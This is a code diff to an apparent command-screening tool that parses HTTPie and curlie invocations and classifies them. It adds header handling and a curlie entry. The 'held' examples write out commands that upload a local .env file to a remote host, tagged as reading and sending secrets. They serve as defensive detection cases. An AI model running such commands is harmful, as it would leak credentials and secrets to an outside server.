@@ -45,7 +45,8 @@ function httpie(call: Call): void {
   // HTTPie refuses fields beside a body that is given raw.
   if (raw === undefined && Object.keys(fields).length > 0) draft.body = bodyOf(fields, has(call, 'f', 'form'));
   if (call.stdin !== undefined && !has(call, 'ignore-stdin')) addFile(call, draft, plainArg('-', call.range));
-  if (has(call, 'a', 'auth', 'bearer')) draft.headers.push(['Authorization', 'given']);
+  for (const header of valuesOf(call, 'header')) addHeader(draft, header);
+  if (has(call, 'a', 'auth', 'bearer', 'user')) draft.headers.push(['Authorization', 'given']);
   const session = valueOf(call, 'session', 'session-read-only');
   if (session !== undefined) usesSession(call, draft, session);
   if (has(call, 'd', 'download')) saveTo({ ...call, title: 'wget' }, url);
@@ -103,6 +104,19 @@ export const httpieTools: readonly Tool[] = [
     examples: {
       held: { 'http POST api.example.com/x f@.env': 'secret.read secret.send' },
       passed: ['http GET https://api.example.com/x'],
+    },
+  },
+  {
+    // curl with HTTPie's words: of curl's own options those alone that make no other request of it.
+    names: 'curlie',
+    options:
+      's,silent S,show-error v,verbose i,include,show-headers I,head k,insecure L,location f,fail m,max-time= connect-timeout= H,header= u,user= pretty',
+    also: httpie,
+    examples: {
+      held: {
+        'curlie https://example.com/x f@.env': 'secret.read secret.send',
+      },
+      passed: ['curlie -s :8000/health', 'curlie localhost:3000/users'],
     },
   },
 ];
